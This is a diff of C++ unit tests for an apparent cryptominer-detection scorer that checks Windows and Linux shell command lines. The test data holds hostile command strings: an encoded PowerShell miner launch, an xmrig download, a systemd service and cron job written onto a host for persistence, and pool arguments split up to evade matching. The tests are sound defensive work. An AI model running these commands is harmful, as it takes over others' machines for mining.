@@ -38,6 +38,42 @@ TEST(CommandSignals, AUrlWithoutAHostOrOnEveryAddressIsNone) {
   }
 }
 
+std::string utf16(const std::string& text) {
+  std::string out;
+  for (char c : text) {
+    out += c;
+    out += '\0';
+  }
+  return out;
+}
+
+TEST(CommandSignals, ShellsOfWindowsAreReadToo) {
+  const std::string mine = "C:\\m\\a.exe -o stratum+tcp://10.0.0.1:3333 -u w";
+  EXPECT_GE(scoreOf({"powershell.exe", "-NoProfile", "-Command", "cd C:\\; " + mine}), kDefaultThreshold);
+  EXPECT_GE(scoreOf({"pwsh", "-EncodedCommand", base64Encode(utf16(mine))}), kDefaultThreshold);
+  EXPECT_GE(scoreOf({"cmd", "/S", "/C", mine}), kDefaultThreshold);
+  EXPECT_GE(weightOf({"powershell", "Invoke-WebRequest -Uri https://github.com/xmrig/xmrig/releases/"
+                      "download/v6.21.0/xmrig-6.21.0-msvc-win64.zip -OutFile x.zip"}, "miner-download"),
+            weight::kMedium);
+  EXPECT_EQ(scoreOf({"powershell", "-Command", "Write-Host ready; Get-Process"}), 0);
+}
+
+TEST(CommandSignals, WhatAHostIsMadeToStartIsRead) {
+  const std::string mine = "/usr/bin/upd -o stratum+tcp://10.0.0.1:3333 -u w";
+  EXPECT_GE(scoreOf({"sh", "-c", "cat > /host/etc/systemd/system/upd.service <<'E'\n[Service]\n"
+                     "ExecStart=-" + mine + "\nE\nchroot /host systemctl start upd"}), kDefaultThreshold);
+  EXPECT_GE(scoreOf({"sh", "-c", "echo '* * * * * root " + mine + "' >> /host/etc/cron.d/upd"}),
+            kDefaultThreshold);
+  EXPECT_EQ(scoreOf({"sh", "-c", "cat > /notes.service <<'E'\nExecStart=" + mine + "\nE\n"}), 0)
+      << "nobody starts what stands elsewhere";
+}
+
+TEST(CommandSignals, ArraysThatGrowAreOneCommandLine) {
+  EXPECT_GE(scoreOf({"bash", "-c", "a=(-o pool.hashvault.pro:443 --tls); a+=(-u " +
+                     std::string(kStandardAddress) + "); /opt/j \"${a[@]}\""}), kDefaultThreshold);
+  EXPECT_GE(scoreOf({"sh", "-c", "U=stratum+tcp; U+=://10.0.0.1:3333; /x -o $U"}), kDefaultThreshold);
+}
+
 TEST(CommandSignals, AWalletCountsBesideAPoolOnly) {
   EXPECT_EQ(weightOf({"/x", "--donate", kStandardAddress}, "wallet"), weight::kAdds);
   EXPECT_GE(scoreOf({"/x", "-o", "10.0.0.1:443", "-u", kStandardAddress}), kDefaultThreshold);
